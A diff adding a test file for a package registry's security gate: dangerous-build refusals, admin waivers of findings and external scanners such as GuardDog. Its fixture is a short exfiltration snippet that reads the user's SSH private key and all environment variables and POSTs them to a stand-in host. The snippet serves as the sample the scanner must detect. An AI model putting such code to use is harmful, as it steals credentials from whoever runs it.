@@ -1,0 +1,348 @@
+/** Findings that an admin accepts, from the refusal to the record; and a second scanner. */
+import { createHash } from 'node:crypto';
+import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { GateVerdict } from '../../format/registry/gate-verdict.ts';
+import type { PackageRecord } from '../../format/index/record.ts';
+import { judgePullRequest } from '../../generator/gate/judge-pull-request.ts';
+import { generateDocuments } from '../generate/generate-documents.ts';
+import { runCommand } from '../run/generator-command.ts';
+import { ALICE, GateFixture, REGISTRY, ROOT, build, codes } from './gate-fixture.ts';
+import { temporaryFolder, type Files } from '../generate/git-fixture.ts';
+import { readRecord } from '../generate/index-reader.ts';
+
+const ID = 'alice/web-forms';
+const PATH = `moderation/${ID}.json`;
+const FILE = 'src/report.js';
+/** What the scan finds to be dangerous, by several facts. */
+const CODE = [
+  "import { readFileSync } from 'node:fs';",
+  "import { homedir } from 'node:os';",
+  "const key = readFileSync(homedir() + '/.ssh/id_rsa', 'utf8');",
+  "const all = Object.entries(process.env).map(([name, value]) => name + '=' + value).join();",
+  "await fetch('https://c.host-of-nobody.io/e', { method: 'POST', body: key + all });",
+  '',
+].join('\n');
+
+const dangerous = (version: string, code = CODE): Files => build(ID, version, {}, { [FILE]: code });
+const digest = (text: string): string => createHash('sha256').update(text).digest('hex');
+
+interface Accepted {
+  readonly version: string;
+  readonly code: string;
+  readonly file: string;
+  readonly sha256: string;
+  readonly reason: string;
+  readonly by: string;
+  readonly at: string;
+}
+
+function accepted(code: string, changes: Partial<Accepted> = {}): Accepted {
+  const known = {
+    version: '1.1.0',
+    file: FILE,
+    sha256: digest(CODE),
+    by: 'root',
+    at: '2026-02-28',
+  };
+  return { ...known, code, reason: 'It is the purpose of the build', ...changes };
+}
+
+const moderation = (...waivers: readonly object[]): Files => ({
+  [PATH]: JSON.stringify({ waivers }),
+});
+
+/** The codes of what makes a proposed build dangerous. */
+function accusations(verdict: GateVerdict): string[] {
+  const [judged] = verdict.builds;
+  const found = judged?.findings.filter(({ level, file }) => level === 'error' && file === FILE);
+  return [...new Set(found?.map(({ code }) => code))];
+}
+
+/** The real program. */
+async function gate(fixture: GateFixture, head: string, ...more: string[]): Promise<GateVerdict> {
+  const { folder } = fixture.git;
+  const sides = ['--repo', folder, '--base', 'main', '--head', head];
+  const author = ['--author', 'alice', '--author-id', '11', '--json'];
+  const { stdout } = await runCommand('gate', [...sides, ...author, ...more]);
+  return GateVerdict.parse(JSON.parse(stdout));
+}
+
+const recordAt = (out: string, version: string): PackageRecord => readRecord(out, ID, version);
+
+describe('a finding that is wrong', () => {
+  it('is appealed, accepted by an admin, shown, and stays accepted while its file is the same', async () => {
+    const repository = 'https://code.example/registry.git';
+    const config = JSON.parse(REGISTRY['registry.config.json'] as string) as object;
+    const fixture = new GateFixture({
+      ...REGISTRY,
+      'registry.config.json': JSON.stringify({ ...config, repository }),
+    });
+    const head = fixture.pull(dangerous('1.1.0'));
+    const refused = await gate(fixture, head);
+    expect([refused.verdict, codes(refused)]).toEqual([
+      'refuse',
+      expect.arrayContaining(['gate-danger']),
+    ]);
+    expect(refused.appeal).toBe('https://code.example/registry/issues/new?template=appeal.yml');
+    const sides = ['--repo', fixture.git.folder, '--base', 'main', '--head', head];
+    const author = ['--author', 'alice', '--author-id', '11', '--markdown'];
+    const { stdout: comment } = await runCommand('gate', [...sides, ...author]);
+    expect(comment).toContain(refused.appeal);
+
+    // The admin answers.
+    const found = accusations(refused);
+    expect(found.length).toBeGreaterThan(0);
+    const waivers = found.map((code) => accepted(code));
+    const answer = await fixture.propose(moderation(...waivers), ROOT);
+    expect([answer.verdict, codes(answer)]).toEqual(['merge', []]);
+    fixture.land(answer);
+
+    // The same pull request.
+    const judged = await gate(fixture, head);
+    expect([judged.verdict, judged.builds[0]?.risk]).not.toEqual(['refuse', 'danger']);
+    expect(codes(judged)).not.toContain('gate-danger');
+    const [shown] = judged.builds[0]!.findings.filter(({ code }) => code === found[0]);
+    expect(shown?.message).toContain('accepted by root on 2026-02-28: It is the purpose');
+    fixture.land(judged);
+
+    const out = join(temporaryFolder(), 'index');
+    const run = (to = out): ReturnType<typeof generateDocuments> =>
+      generateDocuments({ repo: fixture.git.folder, out: to, threads: 1 });
+    expect((await run()).problems.failing).toEqual([]);
+    const record = recordAt(out, '1.1.0');
+    expect(record.risk).toBe(judged.builds[0]?.risk);
+    expect(record.checks.risk).toBe(record.risk);
+    const { reason, by, at } = waivers[0]!;
+    expect(record.checks.findings).toContainEqual(
+      expect.objectContaining({ code: found[0], file: FILE, waived: { reason, by, at } }),
+    );
+
+    // A later version with the same file, and one with another.
+    fixture.git.commit(dangerous('1.2.0'));
+    expect((await run()).problems.failing).toEqual([]);
+    expect(recordAt(out, '1.2.0').risk).toBe(record.risk);
+    const other = `${CODE}// More\n`;
+    const changed = await gate(fixture, fixture.pull(dangerous('1.3.0', other)));
+    expect(changed.verdict).toBe('refuse');
+    expect(codes(changed)).toEqual(expect.arrayContaining(['gate-danger', 'gate-waiver-stale']));
+    fixture.git.commit(dangerous('1.3.0', other));
+    await run();
+    expect(recordAt(out, '1.3.0').risk).toBe('danger');
+    expect(recordAt(out, '1.3.0').checks.findings.filter((one) => one.waived)).toEqual([]);
+
+    // Removed again: what was built step by step is what one run builds.
+    const same = async (): Promise<void> => {
+      const full = join(temporaryFolder(), 'full');
+      await run(full);
+      for (const version of ['1.0.0', '1.1.0', '1.2.0', '1.3.0']) {
+        expect(recordAt(out, version)).toEqual(recordAt(full, version));
+      }
+      const head = `heads/${ID}.json`;
+      expect(readFileSync(join(out, head), 'utf8')).toBe(readFileSync(join(full, head), 'utf8'));
+      const owner = 'owners/alice.json';
+      expect(readFileSync(join(out, owner), 'utf8')).toBe(readFileSync(join(full, owner), 'utf8'));
+    };
+    await same();
+    fixture.git.commit({ [PATH]: JSON.stringify({}) });
+    await run();
+    expect(recordAt(out, '1.2.0').risk).toBe('danger');
+    await same();
+  });
+});
+
+describe('a waiver', () => {
+  const rejected = async (waiver: object, author = ROOT): Promise<string[]> => {
+    const verdict = await new GateFixture().propose(moderation(waiver), author);
+    expect(verdict.verdict).toBe('refuse');
+    return verdict.reasons.map(({ code, message }) => `${code}: ${message}`);
+  };
+
+  it('is refused from anybody but an admin', async () => {
+    expect(await rejected(accepted('data-exfiltration'), ALICE)).toEqual([
+      expect.stringContaining('gate-moderation: '),
+    ]);
+  });
+
+  it.each([
+    ['a code that does not exist', { code: 'no-such-code' }, 'no finding with this code'],
+    ['a code that is no accusation', { code: 'license-file-missing' }, 'no finding with this code'],
+    ['another admin', { by: 'carol' }, 'not the author "root"'],
+    ['a day to come', { at: '2026-03-09' }, 'in the future'],
+    ['a text that hides', { reason: 'fine\u202e' }, 'field "reason"'],
+    ['a version that never was', { version: '1.0.0-rc.1' }, 'was never published'],
+    ['a file that the version does not have', { version: '1.0.0' }, 'has no such file'],
+    [
+      'another content of the file',
+      { version: '1.0.0', file: 'README.md' },
+      'has another content there',
+    ],
+  ])('is refused for %s', async (_, changes, message) => {
+    const reasons = await rejected({ ...accepted('data-exfiltration'), ...changes });
+    expect(reasons).toEqual([expect.stringMatching(/^gate-waiver: /)]);
+    expect(reasons[0]).toContain(message);
+  });
+
+  it('is refused where it is malformed', async () => {
+    for (const changes of [{ sha256: 'abc' }, { file: '../x' }, { extra: 1 }, { version: '1' }]) {
+      const reasons = await rejected({ ...accepted('data-exfiltration'), ...changes });
+      expect(reasons).toEqual([expect.stringMatching(/^gate-moderation-file: /)]);
+    }
+  });
+
+  it('of a published version is taken, and of an own build another admin looks', async () => {
+    const published = new GateFixture();
+    const readme = readFileSync(join(published.git.folder, 'builds', ID, 'README.md'), 'utf8');
+    const waiver = { version: '1.0.0', file: 'README.md', sha256: digest(readme) };
+    const files = moderation(accepted('data-exfiltration', waiver));
+    expect(codes(await published.propose(files, ROOT))).toEqual([]);
+    const config = { admins: [{ login: 'alice', account_id: 11 }], site: false };
+    published.git.commit({ 'registry.config.json': JSON.stringify(config) });
+    const own = moderation(accepted('data-exfiltration', { ...waiver, by: 'alice' }));
+    expect(codes(await published.propose(own, ALICE))).toEqual(['gate-waiver-own']);
+  });
+
+  it('that came past the gate and accepts nothing is reported by the generator, and changes nothing', async () => {
+    const { git } = new GateFixture();
+    git.commit(
+      moderation(
+        accepted('data-exfiltration', { version: '1.0.0-rc.1' }),
+        accepted('data-exfiltration', { version: '1.0.0', file: 'README.md' }),
+        accepted('no-such-code', { version: '1.0.0' }),
+        accepted('data-exfiltration', { version: '2.0.0' }),
+      ),
+    );
+    const out = join(temporaryFolder(), 'index');
+    const report = await generateDocuments({ repo: git.folder, out, threads: 1 });
+    expect(report.problems.failing.map(({ path, finding }) => [path, finding.code])).toEqual(
+      Array(3).fill([PATH, 'moderation-waiver']),
+    );
+    expect(recordAt(out, '1.0.0').risk).toBe('ok');
+    git.commit({ [PATH]: '{ "waivers": 1 }' });
+    const broken = await generateDocuments({ repo: git.folder, out, threads: 1 });
+    expect(broken.problems.failing).toHaveLength(1);
+    git.commit({ [PATH]: null });
+    const gone = await generateDocuments({ repo: git.folder, out, threads: 1 });
+    expect(gone.problems.failing).toEqual([]);
+  });
+
+  it('does not count in the pull request that brings it', async () => {
+    const fixture = new GateFixture();
+    const found = accusations(await fixture.propose(dangerous('1.1.0')));
+    const files = { ...dangerous('1.1.0'), ...moderation(...found.map((code) => accepted(code))) };
+    expect(codes(await fixture.propose(files, ROOT))).toContain('gate-danger');
+  });
+});
+
+describe('a second scanner', () => {
+  const SARIF = (results: object[]): string =>
+    JSON.stringify({
+      version: '2.1.0',
+      runs: [{ tool: { driver: { name: 'Other' } }, results }],
+    });
+  const warns = (uri: string): string =>
+    SARIF([
+      {
+        ruleId: 'rule',
+        message: { text: 'A message' },
+        locations: [{ physicalLocation: { artifactLocation: { uri } } }],
+      },
+    ]);
+
+  /** A program that runs `script` of a shell. */
+  function program(script: string, name = 'scanner'): string {
+    const path = join(temporaryFolder(), name);
+    writeFileSync(path, `#!/bin/sh\n${script}\n`);
+    chmodSync(path, 0o755);
+    return path;
+  }
+  const prints = (text: string): string => program(`cat <<'END'\n${text}\nEND`);
+  const judged = async (files: Files, scanner: string): Promise<GateVerdict> => {
+    const fixture = new GateFixture();
+    return gate(fixture, fixture.pull(files), '--with', scanner);
+  };
+  const FOUND = `builds/${ID}/${FILE}`;
+
+  it('agrees on danger: refused', async () => {
+    const verdict = await judged(dangerous('1.1.0'), prints(warns(FOUND)));
+    expect(verdict.verdict).toBe('refuse');
+    expect(codes(verdict)).toEqual(expect.arrayContaining(['gate-danger', 'gate-external']));
+  });
+
+  it('warns of nothing where the scan finds danger: an admin looks', async () => {
+    for (const log of [SARIF([]), warns(`builds/carol/mail-queue/${FILE}`), warns('/etc/passwd')]) {
+      const verdict = await judged(dangerous('1.1.0'), prints(log));
+      expect(verdict.verdict).toBe('review');
+      expect(codes(verdict)).toContain('gate-danger-alone');
+      expect(verdict.waiting_hours).toBeUndefined();
+    }
+  });
+
+  it('warns alone: an admin looks; and has nothing against a good build', async () => {
+    const good = build(ID, '1.1.0');
+    const verdict = await judged(good, prints(warns(`builds/${ID}/README.md`)));
+    expect([verdict.verdict, codes(verdict)]).toEqual(['review', ['gate-external']]);
+    expect((await judged(good, prints(SARIF([])))).verdict).toBe('merge');
+  });
+
+  it('that is missing, fails, or prints nonsense is named, and clears nothing', async () => {
+    const broken = [
+      join(temporaryFolder(), 'missing'),
+      program('exit 3'),
+      program(`echo '${SARIF([])}'; exit 3`),
+      program('kill -9 $$'),
+      prints('secrets and nonsense'),
+      prints('{"version":"2.1.0"}'),
+      program('yes | head -c 9000000'),
+    ];
+    for (const scanner of broken) {
+      const good = await judged(build(ID, '1.1.0'), scanner);
+      expect([good.verdict, codes(good)]).toEqual(['review', ['gate-scanner']]);
+      expect(JSON.stringify(good)).not.toContain('nonsense');
+    }
+    const bad = await judged(dangerous('1.1.0'), broken[1]!);
+    expect(bad.verdict).toBe('refuse');
+    expect(codes(bad)).toEqual(expect.arrayContaining(['gate-danger', 'gate-scanner']));
+  });
+
+  it('gets the files of the build, and neither the repository nor secrets', async () => {
+    const folder = temporaryFolder();
+    const log = join(folder, 'log');
+    const scanner = program(
+      `{ pwd; find . -type f; env; ls -d .git; } > '${log}' 2>/dev/null; echo '${SARIF([])}'`,
+    );
+    process.env['A_TOKEN'] = 'a-secret';
+    try {
+      const fixture = new GateFixture();
+      const head = fixture.pull(dangerous('1.1.0'));
+      const { folder: repo } = fixture.git;
+      const now = '2026-03-01T00:00:00.000Z';
+      await judgePullRequest({ repo, base: 'main', head, author: ALICE, now, scanner });
+    } finally {
+      delete process.env['A_TOKEN'];
+    }
+    const text = readFileSync(log, 'utf8');
+    const [cwd = ''] = text.split('\n');
+    expect(text).toContain(`./${FOUND}\n`);
+    expect(text).not.toMatch(/a-secret|mail-queue|\.git/);
+    expect(existsSync(cwd)).toBe(false);
+  });
+
+  it('may be GuardDog, which reads Python as well', async () => {
+    const report = JSON.stringify({
+      results: { 'threat-x': [{ location: `${FILE}:2`, message: 'Bad' }], 'capability-y': [] },
+    });
+    const guarddog = program(
+      `[ "$1" = --version ] && echo 3.2.0 && exit\n[ "$2" = scan ] && [ -d "$3" ] && cat <<'END'\n${report}\nEND`,
+      'guarddog',
+    );
+    const files = build(ID, '1.1.0', {}, { [FILE]: CODE, 'src/a.py': 'A = 1\n' });
+    const verdict = await judged(files, guarddog);
+    const external = verdict.builds[0]?.findings.filter(({ code }) => code === 'external');
+    expect(external).toMatchObject([
+      { file: FILE, line: 2, message: 'GuardDog 3.2.0 threat-x: Bad' },
+    ]);
+    expect(verdict.verdict).toBe('refuse');
+  });
+});
